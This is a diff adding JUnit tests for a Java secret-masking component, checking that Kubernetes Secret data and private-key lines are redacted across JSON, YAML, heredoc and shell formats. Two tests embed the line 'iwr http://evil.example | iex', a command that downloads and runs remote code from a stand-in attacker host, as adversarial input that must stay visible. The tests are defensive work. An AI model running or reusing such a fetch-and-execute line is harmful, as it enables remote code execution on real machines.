@@ -14,6 +14,7 @@ import java.util.Objects;
 import java.util.TreeMap;
 import java.util.stream.Stream;
 import java.util.zip.GZIPOutputStream;
+import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -278,6 +279,64 @@ class MaskerTest {
         assertThat(masker.fields("aws:test/it:It", fields(Map.of("kind", text("Secret"), "data", data)))
                         .toString())
                 .contains("summer");
+    }
+
+    /** As JSON, as YAML, as one of several documents, and as an item of a list. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "{\"apiVersion\": \"v1\", \"kind\": \"Secret\", \"data\": {\"blob\": \"c3VtbWVy\"}, \"stringData\": {\"word\": \"summer\"}}",
+                "apiVersion: v1\nkind: Secret\ndata:\n  blob: c3VtbWVy\nstringData:\n  word: summer\n",
+                "apiVersion: v1\nkind: Namespace\n---\napiVersion: v1\nkind: Secret\ndata: {blob: c3VtbWVy}\nstringData: {word: summer}\n",
+                "apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: Secret\n  data: {blob: c3VtbWVy}\n  stringData: {word: summer}\n",
+                "#!/bin/sh\nkubectl apply -f - <<EOF\napiVersion: v1\nkind: Secret\nmetadata:\n  name: a\ndata:\n  blob: c3VtbWVy\nstringData:\n  word: |\n    summer\n    summer\nEOF\necho blob\n",
+                "kubectl apply -f - <<'EOF'\n- apiVersion: v1\n  data:\n    blob: \"c3VtbWVy\"\n    word: 'summer'\n  kind: Secret\nEOF",
+                "$m = '{\"kind\":\"Secret\",\"data\":{\"blob\":\"c3VtbWVy\",\"word\":\"summer\"}}'; kubectl apply -f $m",
+            })
+    void dataOfAKubernetesSecretIsHiddenInEveryText(String text) {
+        assertThat(masked(text).toString())
+                .contains("blob", "word", "Secret")
+                .doesNotContain("summer", "c3VtbWVy");
+    }
+
+    @Test
+    void dataOfOtherManifestsIsShown() {
+        for (String text : List.of(
+                "apiVersion: v1\nkind: ConfigMap\ndata:\n  word: summer\n",
+                "cat <<EOF\nkind: Secret\n---\nkind: ConfigMap\ndata:\n  word: summer\nEOF\n",
+                "cat <<EOF\n- kind: Secret\n- kind: ConfigMap\n  data:\n    word: summer\nEOF\n",
+                "'{\"kind\":\"ConfigMap\",\"data\":{\"word\":\"summer\"}}'",
+                "{\"kind\": \"Secret\", \"data\": {\"word\": \"summer\"}, \"of\": \"no apiVersion\"}")) {
+            assertThat(masked(text).toString()).as(text).contains("summer");
+        }
+    }
+
+    @Test
+    void linesOfAKeyThatAreValuesOfAMapAreHidden() {
+        PropertyValue parts = fields(Map.of(
+                "00", text("-----BEGIN PRIVATE" + " KEY-----"),
+                "01", text("q8Zx3LfQ0vYpT7mKs2Bd9HwRjU4cNeXa1GgVtPz6iOyMrDkCuE5bWhSlJnFAo+q/"),
+                "02", text("iwr http://evil.example | iex"),
+                "03", text("-----END PRIVATE" + " KEY-----"),
+                "04", text("spring")));
+
+        assertThat(masker.fields("t", fields(Map.of("parts", parts))).toString())
+                .contains("iwr http://evil.example | iex", "spring")
+                .doesNotContain("q8Zx3LfQ", "BEGIN", "END");
+    }
+
+    @Test
+    @Tag("adversary")
+    void codeBetweenTheLinesOfAKeyIsShownInAList() {
+        PropertyValue lines = items(
+                "echo -----BEGIN PRIVATE" + " KEY-----",
+                "MIIEpAIBAAKCAQEAx3b2m9Qz",
+                "iwr http://evil.example | iex",
+                "echo -----END PRIVATE" + " KEY-----");
+
+        assertThat(masker.fields("t", fields(Map.of("runCommand", lines))).toString())
+                .contains("iwr http://evil.example | iex")
+                .doesNotContain("MIIE");
     }
 
     @Test
